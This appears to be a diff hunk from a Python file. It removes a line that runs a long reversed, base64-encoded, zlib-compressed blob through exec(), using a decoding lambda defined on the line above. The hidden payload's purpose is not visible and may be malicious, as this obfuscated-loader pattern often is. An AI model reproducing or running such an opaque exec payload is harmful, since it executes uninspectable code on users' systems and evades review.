@@ -1,2 +1,2 @@
 _ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));
-exec((_)(b'=8VI2WeA//73v/fN3NvuyJ7csTw5HuvCyz9WupyWfYkjoY1dgUpn7Oj+Yg9KDvH2Eq756akxs5IFE1MyEPVJjR5gR3P+8mwz1oggVbsBusM+k8/g5kKYPlzeB6RDjGVN01ynpe2ExwvvC3OiqayifxX7fLX64L1OyI0pWeT6wCHKmjLy1WIvw7xFXWUZMimNdNWqQ9TW4fCJq5I5jH2xpDhRde4vEw8WyxogISWzmHcz5Nox/tiWlDMe6aRxhDbuKaJUGpFymWvkgpXZEV3QyS5NQrbgZM3mfrK89dqwcazM9dknItB80k8m4vAI62+Xz7KIaWjyCMH6OhLg1tyJNHEyV5WIibQwth/1MqfUMxsUjO2LXs9ujAbjPJ1rqvFKvmUu5cDYSb7s4iWgk+cLtn6eO6VJNOG38+eTziF19B46659jw6R9OnR6K4+JzLW/WorNMw9KUu7xGZSvxZw0yuTD9NfA5GxphfIQm6/TS9IGBj/kVW4ohrO/zxotki+KD42W4zyqfJUZszIKnCFlWyfxLX/K8fmbXPx+V2/BB3HxdqC+DkGGtnCvfDPeE7lsKVNrTWABvhuiLddBrSXgOd7F8lnQXs58m3XqQrZKTIL/hMXZJzlAkWw0ygRi28YuBzBx9UoOOlEVmtiqKrvVVK+Xw8op9+do39Qd45ty61jJO9Jd9zNyBuHHaJHCS8bCBts5sD81iquY2occsD62esP5gD6ax83C1HHXzwb7nKi+C1zTHnHZpVcXHovbkY5E+8mIcmZyitWgh6Y1e6MFt2IwrfOfzvagKVljxPOPOa5ZNPDMWEjC1iQ6OFyT5p3v3mlz4mQHeylsflo1gln6ToaznR2GuVQHICB925tTtnnW9gxkdZmrMYjYSyFp1jx03xltyikal0CawPtdoARgB7n9khW0G3J3vFn2uiqKl6N1XzM9rfLpkXwT9pLooKsJ0CtDW3ARCENSBlrUicwHUZhwUl+C9830flx9akAML9OLg7yIvarOSBXuzV77Fph3XvBDqD3Wc059xPtru8pzbJB5inudA3BzDSUGaD6HrAMBVwYAXp8ERnixTaln01znC7aunDp3cUyLj2TfzaPfODopMtxRR1ZIWHim8uGmxZnHRxydstZs2b2JTlz2RFdYJnNjmJPl1p3/7UkfGe/tW1w304A1o6ebT5dultpHmNxVaI8lDJwoY37KicwpvL2TnnW8HHjZ6YeXJXeI8YZhniI1YeLz+EmKmijM8aSKrKUdoLhRfTTF3meVcGN2DDO/nZld9BHjBGVbzdlozSNVioxN6SDIegTgdhnEszdlaqxw8cPY6KccGEBuA0XSFh3qlqjj077L7C4LN/3Jkw1x2y/MabfPF5muRxVrQxfvz7XtQGhPJO6uGFd061JnAxyDRqMrhLCpWS9jAxYWUxMl6M3cpga/7tFH7rf7js0juIqhi1FOZCUpv4SxJUJCNlBDREVWHn3UbocXYGh9NRTrse5jIkHlk1iL/WF8xV3QMzJR+USkApC5lc5j2j97ksdDfjB4H4L+PPeyU5wfScDxbW8jXDTBZKClDkAsOiDD+xBYm1OL4jjt4L3HfQdoO1rYJXSRaIi1D6zv66IqaGwdfou0sQewAa2EkEdESqBTYEQ597lcwL4hWZHSzL6rjfEWVJ4eFs+LUJDl6YjZUkFA3byzlosF8nR4kR/ZkEMGIDDM56R52LTwtNYynd13VtBgccpA4C1wt/xveacODHw0JtRam1KUJDYlaoyoP+qJHnFc7zBifTzLld/27YA8d/vdhNDMStHMvZ7Kxj2G+SjyNc5cWffJAARjAxXGnb68nh1z09hcRtRjOavEL9xx8n9I0+mlWypuZb6JnlnJ60Va8IG1vd0CzjuqPDgJ9uYIxtxaIwwhgW70R5gbra42HJYtDQ/XROa3QXVyysVCwQoLIDO0Bsx/+LX71DlJfeKAzaf0ktCEn4SxAp514to0kAVCphkq01+8UKRvzXR5+8cC3lW6JasK0oAMTpGsc6NC4QZL6x2JhLNQia7mC7U+HDZUjwiemOEKDM9aMolFUc/HiC+L4SZi0iCzJUULzAw3OvqLSlfN+mKtu6QWiQedRlx1qnyd0Sy8eMlCtrmMnH5A8M09uECE7IsJldyEjxlkU01aiuYaVHhadb5uIi3EzNptxcVrxA2JyfVWwSuXJ/snsQuGFJPqz785Cak8GPp1DKZYqW4njckiJOVKBBm62BANe/VawvbSbMklGNNGhGiPH8lKNN2zQmEFfVDXLCK0oBZ3O+ybbcQNx81Ac312zHQOrWP1bu5hz/mTMJTpevVpi+Uv0dZ4Hml9i8fKjTAocOs2X9IC2hkskUPSTfGOjHwSr8TnOEpOj73Huke8mcAlb+Jc9XHAxUCYgMtAP2azCWbMCfJg+7xO6CvwdizIWyp8IANgnfOCeTIcZnMJOEC3N0ihS95FZIFI5nfmPAxpOirRhz+oYkyW5d4T5ja750nEVz880GONo73F2LhtNCjKZ5eXCeEnaclCcHWDFuDNY3Oge9g0ge5NChGL9wVGCT7Q6bjXcgQ+5EH8isftJOJfhI4ffGjoxDeIy84n0YA/J1hHM5Zaq4VyzCDdqsZIKGCATZ16YTyyXTGAMHo4BqtZpfyrlQu+Yi6nbaIF8ppxtrhv3VZ5dOxNNXp/N45qW123GMMHgxuslsW9p0GU0ir6QcdumLcIuudAgP9uQNBGXleqhlAaS+XtN9+aanba1LqCovMKEDm0COuTTjeeRM3NO+j6rR+28OU0f1zRRaqWYoZn252ZItii/0lJHVBSeHRZzx4ylrqge9ouLgerT0xV2+es7C91Nq72T815NmrRg/a2ZU80mC15mTeZunYovkCIp8kSi5Yf5MOWNMxtz1AtAFvyqdZZjkB6OCuaF7cGZM26MqDlqUeD7xRNj18tDhti5Rayg2nG5tsmgaTyz+ckogzr4+6y5CUw2tID9m4bEda2osB2akzXkYusJ+cW9TBvvOYtKKy49W/ElPnljgUUYdyhiHsIbw7Y5HhphwMKrOvP/NWPZ/Vd9Yv2+kPMwlUvZ5aDD/Xg243gl4ksK6dZkaLiieKhAD9W860ejT95VSPnkWimmciZ7XgDUTI47QuxLlLfdnRE84Cl2toVWyVboMnqhl9JSGATv8a0GhDaEtCF8oEsMxfHL15mlHS9R4NFvGVo70AxI4d58fKFAW49mbTlsebo9JwJ0DiF14QSkywtuy/s4KFufddKEpRpJha8YHqwt/7/+mWxOMp9XkeBmWf2EbigS08g06HWlzVZZ2Zw8GQ4BByTjNjInNlN53rxHpPX6AKV/N4ap6vvm3AVcCEJgi6ETOgi4zjZhMa/VDCMZfY1lWWdXqiif27CXY8qz/4h4yE5Nk1zZ7B2VBPWHGIcL5UaGhmBCWpr0Ur6UPW1PnBbwcwu8d9RxbZzc95a8GamrPF8VvScAy+5L54C0ID2/UCNQkR4faLQtmMptFvhTnbVXfcJfE2eboTuNKEr/qAKSMyfgSb66FxqBGUbO6EYEWJsicDp8BHcgvpDA7oE63KzhYvq2Fexw2Z7VHHovahSCOa2efI9M5vuMkRERsWIQJj+XWhYZpsbJJ3zwEqpC67io6Bn3NRVgPPsB24ozccIXbJ6S6B/vsUaugY3kO4oZcfzorbYPZK9q8DjaiChsUwF2q04mLWjV6xvC2pt3dMIG9ktyqTcLDT2eG93hw31vOLzJDqnp76D+a+H/tDFJTe9VJBBn2GyC5AQgBVZs1pesQyu/JWgaexdgmKSRz02rwuBY9o7jqGHeEXjo7OgjzGXmKqar9SXQI/r26f5HNMG4lI/scbXUi7NRGhB3oPHcpjpBU81cWNajEL8wPdKJaXVefQi/tG0rSP9NY03codCvzjIsXpzjUGsOACw+BxSMu/yk4DI1ZK7RHPAqkfE6YenwimO6U5MzBlRrQCIrMSTWE/LIp4G2gJqfQPCcnfedNKSnV+CLNWgFeRC+PVRZBPApkGvj2p0xLp4Dm+75eScfcshS+qm5890fk5Az2ufZIxHWd14agsEWTCDB/XAEr89t7PiKde+2JLmfcc5FILpqqGow17wzPYPGE4dxmmcw8DulAua0/UcHvPfaZYDDiLINLadDxrU0i49ZNXO4AVbIqmLS8dwW6pCoTA0FtXWXGCVranL03aFdAW1oLkq6fqjMg7ht2+MqyE2nK/JrGVZYhUpKCM6U04nNHX2wSYi6ClbTK4bSe3pz8Xh6GwLSBBnv97RslXm9j5s7d19iHz1/ed7Vcg7vjAVBVFzvzGg7yI/zuhaCr8L9N4oNmR0raFT0AMVZobykjFvSMfVTl1EiBynDsHkDy0VcO6SMS5apRXJX2Pg8YiMSbS0LFodrjHtWgeyCAWyqanELGvyQVAwxk3+XJtTGNw4Zsrl8BkgborfAqlpY38MpI6LtnU1kWfBRFwcs8fLCOYoKlq+zYKbr1b+84a1XKR8gFB5UJxiczwvwmvF8LefrTiA2tVUnwvCNxDVI333CRqdN3j6chRK/ZnQPa0BAvPQ+HyfwNJEygaOA83T1k28YORPqU/RhlqkRciaQok/T4vyaByIrIm3jkHCdDtV+V87wWhtb4lGyhSu7U+YB97ihalFFtkdye2U/xhSc1BmxEj+n2gGeN5IsUwIgPJS8pQo0UiQZVsXW9UDdI8/5aCPSW+WI4u5BJB8fbLQdsNCCOmC6T4NOcJTib14UF4TE0eVblHApPParHHGovu/t8HnW+T48Igks9kof2vIP+FPDoNy9rPwJsZ+CV9AGbyuAyROdJcEmbGgfhFzSq+SAnuzWXo0svs1BBmmkVWGJeFTdfdfCtA+kspn3Y3kvhsU5ZGmXhSSIVqSl8gJZqVsndScknkuGNhH77ebnh63FDyie6QmS9AeY4uwBkETG6jUgeYDR1c8UpOrY53imsSmvq111jL7zBH7ghxUU5f9J0nkWGHGU5ZXynNSaGqCwKRx0aQPQGKrlpriUMe68Z5/ay8XkQ128M/sHnLiDZFiJaiEEGaBgJ2257bF3C//gu0jYO2+R238kwsLvg7fbm1Us9ww/2w0kH5m1eiNWpQqnAX8Ka8+QPze4MVJV8KPskN9K53eGXPV1ry8B8yC1p2w1R80Wldh0vPNpUiZsGymJZMLTAAPegAFC7gotlL8aCt5X9JJMlQ1ZDCwW7D348qsZPhqhirZYDmPfKI99XGCrXs2vPoYkd2zUWx+uOtQqXw9ciTjAX8y2Lg54zzCEo3dhU06fC+YsaJOV+F5yP96/7vDsQDgKVMKloNLIkizCj+xrgeQkHX8T4UiU3b19oHOrS8wsZG76tawK/jQpTrgRe0HqvvdVEeVn8/2Ij/9UURF9rjTy+kDYc/gI3/XUqgnXdao7knwX0Dg1cRHE9QvVeeNU4zlWZu/cQNMqmxGaef8JczIVIPB/4isWufYXnAVBEqKrqHXFGyDW/ZT7FwIgiLZvnItsDBiazWX48WjvNtp5AuEdV04nhQPBP9/HbMd1yG/bmLCYrAY+gU+Q+F2D2b4kIK5NzNMZsT/E2sSzZHJ9796uLkzrcbBp1KlLzPBCOBPx1VpxS7DZR6xrIGQguNhlgtNBuH4BD96o54iLdz2jx71bZY42OLlfAFTaV7YmN3JaMt8W5u+R1+WPoMXLFC0wxCH9CO7WUL/QBxG5j2OU/diETV0v5U6kp3g4Nynq3DGRInDxWlkNLGV5DBq1URy4Vt3DdiPqh9Dad6VqQKe3AMyKBcQVSQlDvXsl3JuLyKCjB8MrxgAL094crwdUJefYUK3pawbVvNAapaLaVmNkTWvvvln7OHZ2rHs0hOFIcNZ2AWgZSIReglDcO0DfyU/UuQtVfRH/LFy8D4IVMV4rtK4kvJ6Uvdu57bOfj2LmtYo3221V7tcJMXysGoxr6wOIublwECwpRvoZsWrKeTYupr0+lj9RFhOcwDHI78zpCHT457ZsToqsCWpSd6Fcat76k0ZwGuhcGtQSUCV0wJPKOUxqK86W9AgcNiRHL1jfHCAgKy0liYQPuk08SQBLR5dc/rfjQFM+T5gLa2oCHcqjYz7oONduhY8qvwlanj2NgQZkaI2aL5KiuVt0aY96W2FTbL7mUf5X3pcPHZoPRVg3efTr4SKGKZVM+mYiNr1jN3RKHhGcqLb66qnaF4jxYsjJQ3QqbIkT2FcRRuyqqrv+U60HKVfB9UcOVrQWbaGNH+7hPLqEJrDuYpocorIMTt0j4caW5DXJjPZp+LptCghM9/iZ57RWHHnLVsDEWucM6VrVSjbQkk9OJPwex82Bsdmn8FvXtjfXB+cCqTeELZiA/nd99/QuKqokfr32zUdWi7s/CxARVrNQWMj83QjeTFmWJ8doheeKmGBpYsA8IthviwowP9WIohUQRIuDFPRa0jcDFir8JwxIAvqVYzs17LrV4H6VGLNRUUKsbf24lndZ9pA/VnQEwoBMKYlRyie4y+tFmEzbz8splNNMNKgr2N44rLbWaUXxUJ38nUb44eM+QByPWZqzAwfuqmMFXeCWwTuGY3QtZCwgH6Yt8azYBwBebz4+NZFoKDWO02UqXdOuxsQ9wbKn7ryDRxBlmHoCPMQeGdpW+ZT3tUilNupJ9OZ4gpRRYsB6IKd9gKx2r5XeYgKZFvPpExlY6EEMcR6LvR1jYPLechFFUO0PErqEArETtoTs7Q1YZ1WBrcnGqI5JRrcK6DXREIyKFDvF6pgk+SN7NSvvcX5RkHp1HDUy7YU3980aX2semppArd9nBh330o1HPZvHe85Ev5ydazY7Gb7JHd64nagUcIyl2isP5bSd8IUfM6+oKwFLFtmDXcSsnquW32CiJrH4lMHeG7Mj3P/efzRniEjj9Qh5ZlEaXa29Cea+OiZEVkKQFea1zxFK/L0KnljQVjMrtBNyZOPNcROScZr9bBeIKUby1BLX94SdE/VL4qmPksDoAoX6zrUe4PUtTnlgHJUyABUQ2KilsrhLa+GlCf8Ke1ssx1kcJhuVW+AyUzI/OXwRSXvEo+ESxEe2j0co6dYjbCJ2RQl46hLCg6tW40xECRVZ6rvfARy8zpA56HvD0f6R9RkKr7PJ1mN5NJWaUFAEiNUFL/tRtV+jzCgVkAJPD2s3aGfi0vobH17i4QoZSkOB9UhHm4L/Sf79BTGZ+nRdyVb1L6iM5dupXtAHDV805n8mwZo1/66DBzqXTacy+gkpuPp7sw8uSK/nTuEqlP+IwTf4RaWTzydvndioGRBS0BXWyC1FMEZ3SlQ39INGRhj2M8dTFeCZca8hcJ1FnuQm9E1shmgHgymsQirbeyPofYmunIusS6HCj5aOuXImQfXsZulClB/b2zlIy3FiL1pU/zTOipaF8AE7MtboMpydD2ur+ooxIzMo5xBAGE+JCP9aSPlRyqvzNCoup2ovhKaSDPlmd3FZV9zu2uGoDvJHxI92Cnv0mF6IHnWRkjJIRPRDfW+90goLKBeeL++6VqrXHIjzSSXqA2qzrRt6GbJ3Rt/ZYl9sQsSH8H/jfz3nqBXlpQYMW9vr9ABmdaozOyKumzNJix9idMf/12mbzLvRHK9ivfKYlE/DrDAINZOfXrZGUoLGL9tzwE3puZ0/j5AOTwy+mqy66E5u7GiPurCWDyBoT1yRQRKDrzvLUV/XjSDnoShf7L/eIHzmm4xYzZwavdq0CvO7NU3BEzrFpuF0r/nYlhRfTtPF08Ukcb5Gl7krocuonZ+hL35/eGF8OK2xQqxPyZ/Lj5794QgD/OhYTRV0XnYmdrsOB4w4jIbZDoGMjVjRrFQx4Ozihjg5O7+Z/Rs8203uAKD5yn630mC3NZ+T3o6Lc04kixMtA7Y2aSd2/EVh+zjm1PWkhwlungOsnGK16SWJkuSM1SYLCaU70qYHIOpVCbYRGLww5gOeMK6+rPY25wAmDVeFSyZ52wgyjl5LoPguNpnyRIQT0wUbFDXnnNLdLvdWpbtsf0JzzwNz1SlRel8C4KGRZ/aC0uGTknlM05wUn70yJua8pQ9rqLS3ttKsNmhhFY8rZFMjMZrvgxQlTn4sqOr0hyX0GDv/ihiTWpFfiblwEAh7vjFRmQLqlK3C96mouk1CTC6Da4q/8/Yz0+fIbOIFwteDDZzwHYcB4zlohzqLbdhLtyDjh4lUkRjKNyVL0Nrn0Pdl69dKIBfWCvAE23XJs38zFXcRyTkfH9sFVLXGVXb6Q3Jetl5yxLtnNqnfCFbNXat8RlDjC88xAH3n5ztdqaOe1KwB4xfU4beOyjj2W5CmVaNNIC1tS+U46TOPCZrKp7mseIp0Tqr/YC86xIAWGdR3zYW7D2G9o77FHk7whaTPVBHrpvcUN7A8YOYLpoRojgnq1BGgDG1EOnSZge7ced2Cr1++4M9mFdLgEzywSkB99WyeJFmvZj/VphxbWLILIVehqFTB6d2cKA3/ay8Lm4Rsxb0kA2JoFjLcqXuAV4optH5bBNcgjKGl1a2hLKxHRjnoffBoiT9kB6HbLfav+VpH1mBErY6fQSferwwGJmjM5yEsT1yjwc5n8O4snrqzZl8RAdADI7oQRNSgFLikiD6hYSdWDvMle15JZqcZKx7sYP9K/bpoEhK6//mOtvzvWRglqOurfq6vIVz4XUz4wlMpaevqr37jyHiaf1oi7IwX48XNEduRSfNoEJEZd2pOHxJyfLngKGF8voCWNWkIzhqjcFU64x7XclM9GO8TSBQgO66yJEsk81nHMRTbYpOvpMzUBC8ju15KZkmzSY9Y/uncyEYDdOzqTqv7AEuta5epX0X7RWq47qP0e47EzuEZfVRZ5kTFbDF3V3c4KZwtfax2d4f9pecxFqhhZzUpWFrzCL2VbNe1Q85aE1+486PydrlyvYVYWpAc8j8kxiXyfb7DNHzpU3MeUjIv9hvIFxnkgv41ozOvOOCR4sqysXHZTyMjyBY6FVq+C96vi9sKXbbpaI+Yx5+jIJ05KP1phdsa2/pBQnkiT/CqbsInntErb4US9SljpPp1HsDaa24b8c9tB7nsMp76dztanvtv56dhCY2fVRNnjecanoHvR+f5IsJBTu+8HFv6u/i39FbiDYz9/7Ux/EqXPTQF7fqeuw+hgm+psrGQbnNA5tGdzNZIaAyM7K994/nRglSFCa4tHAx6oy1tc1wPHWlGlsFoQCvPtXJfCwRLEoQQXa2txJ0JEilsbS2rRmjxKuYJD1W39TQ0C2oEVftygviDrT8SaWf7JGTQ5ilUuL7bNzGbMLX3hOOYTz2yfaCLMAevY4XQUQLF8JbcCqC8CBQ1meuD0gdULZCPlRcF6dKQlbveAzyi76x01vv0dNt5v492SE+0SgjH9e5wP0Vd+fE+Ss4O9Bd7zyZ+yvLweTDPb/ZjSbnTpPAkd6rZM9/NFFePcN7GYFFjltKWeNdO5ir//7tKpoMRTlZj/EEZmd1WkAAQ8zMTLI8UOs/rRH1lYNwUiSXZ5p94JAZh1raO6doMYZXoFbMN/T6BpZTa9zHh2JbjnUnCSG75rxwBPVfiAyXPy5ovY69TW6p/Z8lJV3zFfNmOhCoi8hfwS+Y3fw8gRts2DEfhYQC4XKwec9+TJhd8T7n/GsaAeWf9aelbwAP72JWzrt1LXyxVYq/jgVhTcIZOzaP8uNzJawOnQDj4ThHHwoODxypscIftMWzJHRGKupCwlE9m6YzFGZe34/VR4vQAKNkws3sm1031p+7d2F+3h5bSOGosCoQ9hDQ74A8cbQVBFZm69yRgX1y4Yizq9zYh0UYCpgw6nwvhxZOZ3CpQirtWD0u4KcWfEazPuXRo1sK6ergJiOUknb+KLkoY97oc+La9cph8NIFBPP3AwzlZiAp+x7RTyvJtOi244/KPcASMDt1bw6tB2fAWMb+N3dKEHq/ou8aWDQuZZutORsbEHSDqi5hL0e7crNGZkiXG9vmptnY09Uz1EHuZcijd5RMk/c2Y77rY3h06PIeSfVjYw0XFd5o4pAlsrm0/BJcAzUWHp2n6FkbTRj7Wx9Vxz2dJrM+l2lNelEVZemhIHTnHgJxttZldsGvIY9hZEmYxgArCflNWvVvtLMCMVEw7FifFagoPPygHHd5b6ZQBJm6QyaerRnTuovmhOjhXxLg74bn5lU2YU/Gyxq5L4tXFS4Q2a5HUCiErcfs8SdmwHXLqPwLwnypL+DT/glp0KrJKmoLWybr0LsqDa9hOZlidcaeXLNiZbB9RZnhn2Leu+RRTqBqn1TQjnEf119cdPfIU6fzLqCl/vb/9UebMNYLzhFZKlRgNpP35Q7BR/6sVOQLm3jBkIl6yuWrhXA+DSTNCNY+msxMPLHOQahHpz22ex+Xwa463hxpuIyJTxauUm3iZr7OOnV+Riz0GFpvq0DTl18ZUQtaD/NXMuUCaItncExbicmfpUzv9GO+R56DRBQZs0aSyBlYjAFMbVbyDwGXb4k4NY3fp7Egu33xqhTk9gazGT4JirDVf2JWTEmT4xNY4aR0oHeESRqEWg/3QlidjM0xblAs+HHfDUNB8OZz5Z/dxUeLpViW5G3bBsWmC35TA0gyzl8/rru3qh5UsmbFGsJsytqoKWNJZmlM+nxKtlK2pZ8MCzDMSn0ivIMquQ75OuX9x8/5hsIA2wTIZLRVulSg2Mt1uHLhW8KWmKI2ImYsuTPO/eqYa7MPgqj/W+qqnwffYWWkMVg+Rr5TBLbojun4tVYeEmx8qiL3LPa5Hvl6CGA77P4ch61iB4+SXuxo9+mtjLB1184pzMD0lfRUEiWgjU6gOUnREhVkGlYNM1euRDaLQkfxZ/UfibEFggd8TirSBFfm7IEXjICmm5GHxQCzHjAjA96IIo2VVZU3kt1uMPBb/BwtlpUfBjzPvjk1ZwX3U1kC11L0nsIDjEaU6vz4AHuwhzTeJJ43/6iN0iX/ABVEazxswJRQuWxno0P0eLvC3FSGvHcJA6jcr4lt5s5A6i7FBCUtqMp1JanrMXpCMXtp4gxGE5FDjq/kWpXIcNdomqq15rOquMkuN0f+Yb1LP74oG8HjZwxArSTr6JhIV/dtaimOYONJ+ECRQt4bQsUCRSOurFzUxBm/hw9D7A4flSn3RtR626Iv8cKu9d1PnSistOgjXMaMan1UhLfjEgEwpQx7l+njgq0QHjXBq+ju63wmED2m3LQf8IWHaSdCRdMMZuRKJN0BuMsc2ksMiE3DaiS9T2MOBtyXVc3yxE9H6Zj1bH0lZeKEFrRVZe+pnjQVFau+lbIUjoXgDoPolFuSzlFSzve6mmIw/oAU+0NKgJPYlas+3GuU/RCAoBT16iLnqMKkkYNEmLCZ0jPcBPEOVSohJr435wHadG3zdM2C4b2iBTBFNjL23Qv/STRGrM9Mo9sq6u+dBdlbdhqudxhH2VADVai+/n9RoIAaop24LW+BlWM9jWemSojxiz0K4+5E4kNPMEVcupkcyuh6A+PoecnTY0XAkcyiyll4OE7IAJjqIpETP8ZAl4Kb39Ni325WLWOMLlVBvMhL/WCxVQVJc18u/uVbFiCb6JEeh9fV+wfXqx75bqw8aw0xisuwTl2H/QD/YpIJAI2CUJ6SYVix3qbHVqKl7P3l8q5Zkx8b9uzzNAqgssnKI/gfIz6KLOjfBGrGoc48Ar3yasqOf69nuVu/wtpgYhg8y2h1WeSpSHRQBd4NdPR1ISBKaMtdLso+rBu1G16I/nNVXAqFmm8GNTjj04GR5+/51zskY8OwKpQlDth/Z8t49kYUkkXTDPpsEbctPKwf5bV+OVOTyqS1/N09l2W9POo0gfF8VUC2Cc6sjMM+gh1a0nI1Q+rqpOV5FR2oUVIBCuM5h/1EvwFO1j5cG0q67DEUBEemw8ikYZVWWlyg+dT8AJ9EoUfkBYdzrceQzfmMCic8lrP5RT2o6lbESkUIznUpFabzoaoAvHOeFGcguvGfC1XzO47yDxGA6JJu5PnXR6BWuPST33tZDZ0TGS79VNbaHyn1hch4N66XdZE+JLj+yfo9qtJVJjv7zLuuxrx8shT9xStwgPdIi41nEmbQkUrayba0Vfjt76ApxkBTI+jpJYRTQ50V6xZ9cv95fkw2MyFG46P7jLdjTL3GjPLm2MNgoim9KblCeOG2FEz0vkWxSoh57HHTFIAYi6Yhxv7lwNo8s2ri29IwcXfNWx9KzFqqJR5vpmer6gffEjnZUaXZzsBXRNqotEfe7d9bljjTNvRZOKEGW6cyfXiAWBA1/cJ0v+UcNe5bRSQQxYG50aELXuNiBSfalJVjZylVANJMMtxo9D0K4ph9KepUNwJslWyfQYvaqXifBOB5aq0tM2Be+L2tovU5U34wUIEjjJQESVbyIu1z6LsMYxYxdQ193eARJIno4wNLY2GzSCU7PpHIoWkXi92TMGHDsSLNI/cXFbSzbOrseqQ9Dzu1s+MGDQw542p7t2I/Wytfwu1O++/b0jtXSi2SNU6xvZnTgZEVY5/ds+BdGZmEdtzCXJLlrne2jMQdIhl1XcwInjvm8yM49my14ucryXomP9G0DuBMwxdCE3Y366dIjr9+vFaSNfMhUgOx9sTekmlS7nqC6c6JmLufFcLYl35AP+WIZhppkBUcA2nHVCLcGSgiCpL9+fFzsnrNaN8j5/PBz2iyOQhh0yuVKmVdDRWYj/IhTACmXSjicjnny0Xa1btXMHkwnnXIZccEhxulCelZL18ePd9gzm/1SfOd8RxvjcpLctOnr00w3PuGF0xciNVTsRXzY1wFj0y88Yl93ml62RW0MvSoyMuVDjP+h/LMknpY6j6pjmeCeolQxFuSOlC853gWvi8bL/Vf8tqxW5a612hhj4dODstA6tVZb6iLUbAtNYjudfOd3IKidRUh07kr2PYWzZ3uja4VneyN/snTt17b+GHwYnRw7iEwnkWcsHruidqW7M2TCYYsHkm7FBRbxYx0XZeFGBwIttEy9m6m92QB9DyAl3BvgTg+H91qkc0ElUOzdJpLgH8MZGif5hz3bLdosB4xcrS1ChA6/ynQLTrXI19iehchlm/Gc7DT3tP96KLs/ZyDFMVvqRVz0+QfkEYxDejL/fHDzWJpSIz09Gfc7Z+sE7ft8eRb4sAmokei6pm7cKgBhDY+ZQkRN8OOJcCnhSAhrm1jRskNCJcvXugz2Y1b+p9TGPGdk7gZicqeMm2amvkpqDmidBfauFWfHCoeDTHiVVD8pEINcbKF0BqCzjEy8RcmBksfppM6SL6W9gQgGECVMXlw2jsyzpzVd6SLnoD2DwtWWMtvPouqBn+vAMjodjf0CeMu0i/m/Q31nMrTkrYuhradz8BLVLpHV4Z7+qQUqkjaBnSWItM6DcC2Qn2VpC2dk+2Yw/ZpGK+9qq64o8ZvU2CWuAi+PM8rZZOfhe/XMzqtAPG+zCkDCMvsrE5CZdHwUOXS1GB2v5rnn1dZe2sB/mmF2SLGW5awinqeEQGnShCic3IQR911UNA76+Y7XRsi6JQXV6jU4W4JDw8sMojW+Q6SWFS1EL95kXXxXn8TM7xWZRCQZaAM8QdAHuHO4bdaMyLqfGQyD6N4q/ifTvJ/4BroRM7diG9ufxNR3meoUJsYVpLakSziq8CIu0FN6bxAE60cxuueSzAz/W34F2AmgpVOAz4sOUH3QAzN4e85nqWLzM1JhBAJ8krCQ0sXU6J28Ij60GotYNOnE0c5p4Mcy3xOo43TCoUAmBTAGMobipuTHf3/4WI3ub805pSrbWL6JTV74dw7yDQXlegLSgB4GyuVIYOcrUz0ogMlE1UZ+vvrvNqf/nBHdfz1p7vfyqGdNqtpDJGnby8mLlIEe2MRS+9ufKyPni46hw7ghPmti9LM5TfYUyXzlko4+btlGDIpTm2KkQ9w3hEjgTJYz6Gzn/t4l3dktVlfbcTIxVVk9JlDIdPoJo3eQxPlrPMg0FHdoTand77D95dNNEfT6Ftw4Gkk1e5ZzwiejByrSD4JQOZF1NnhZkUZiRK1eunsYhrF6drUK7j/RSZqtDMWZdMq1I+878+HJMcWFMR6wANNm+XmwUltAQIcleC0Tm6tQpJWF7SujSuvlyz32JCyAoSKHgmtrkAqaCEEvV/MGdbJdskPXeJAr4t0hUYDCXYtDYhQlHMZEcsr2ysbUGTl1Hj2dlqlTENk1jkT1FBjKXZT7HsKn21UdFP/C2tCoigH7Dusn3HiKGWbV6V8FpWwmBGeHiliHS6H5EEfh/e73475hjTiZm9+TWSO5RWRN20sPg7RUnrWC3ZngxkBkA3jtqbOnre2K1WgflzAv98godydWmqasdD0PZp02GnNX5ewUjqew/IyTZW4dP4HyxmyH03z0mP9xSL1fRypnaBUztDJ63gJHUMDvbZ3vb5xRwrzPuWi5Da0ZorskG0aYt+ByFMLu2gjdbmWbLN81oew9TspKNTDOx9xB17J7gxasHyPc6nm2tWH3oy4RvoHBv7040jWq2LhGwOHvnn+xA4TaHH9ybTF5M6VxalLn1HNFy6RYA4f6ZSc7UzMEin8kFOeOoh+1S/6sQqi+YXnxa77lRBSbCV6QoEvRQPdoE0/j0tiZ36TR7+f4aYRHhigLKSQB9E6+R3Ht5ET8ku5QL97rXsiOxsAquowqgTofKtlSgAoo9e6UMm4hYaKb6SGReYivjSRRCvxPR07gNLlNKoKpd2gUN7gpw1LcJ4tlkSeQFc4fbdJqfFEf1rri4P3wwNioQ3WWOcoFnc+HaqTLB8/kAHAi6Ua+VZhrvTw8bkTzpMpkL6DWCSITZRVB80anDCeRzXdQVw8wRp9H7dgZovke/NE0Hu3BsCJLGkwjvNOBvRUlMTV/UyQ9FNiz2m81WUq1I9H4sKZ/mbPvKXF/SH8SxMv+z7vHpNzK6jWJV6XMWULyXClRrAopJgptDbxA/UGaH1poUpNkWQgy5S/8Zs+f/Y3guohdgmUTZFUfqizwzXiPyMA7Cpi+VdkE/qEjAYXq9MW8iSePOL5apfxnWHsiWk+uwEOO7rvX1hg3Cl3XXXJX1FJN3H7kFwfZTGNjClJMCmn4O9swxrpeydSV2ZbUvvzFurj3xW7Cf4vslhPmQfzq/b9hrRaChcRN4OVwacv8DEu71Ytkhp1uxksU4dttjhgyyovRsxPgXWcEdyTE3pySqzBQTMOM8JTiRBMS1nuZ+6ND7i8zJhKMzwaq3zFqZMnEA/1Fzj0S9Dv23HDRR/oZBH5O2zEBcBe2+A/sx8qlWtZGyCXDvNu9ulD/FZRImo5Suz4eFff+9Dd2G5DjsqmlNn/3HBJ1liujFu0QKui6ClNzKdCuFxx5GLOyYgph/UBk7PPfdOmILgbANJ83cUBdSL0p9Xd8DIESgg8N+NuqFrK0SoFbZTHlRPfUP3fiJ75KB3I1paeUUTJkv3299zgOq1HSbLOFUyJhlbz0KGkNkl/tCrmFC7U4Eb29lZ/F9S1Lm+Bb3idh7//+H0PLDLSl/hJ1gKCM2YsMrPHF/8OoFyZXHyy8EDSzu8COTW5zc8Ac0sOrP4YtM/JE5Hlmc+7qCX5E0AbVdXRy+cKnS0HrtsK4mVZJPyExzvhXxba7/FCz7rbj0gZAXHJWYiRaUFh3TjZAI/gU1xsrsczUAJmjBeZf3VIuSrxtyPOmGuiCmAeXcM/HPyvaIZbpZPXYZmuJ6h9g1bvuUSwb76qmDQYrrYHoZ2ta1bPX5J7Y4lLNWUOvtZDYP0xA0CKcHRBVLWuHe2BcJD9v5iQuboaLyNxwKy9JKBNGbEsvTUb2d7qI0Ie64glnHTsabgua9xTAm5jPzX+nH1VQjm27mstFYZymUcjLCAnydLgT7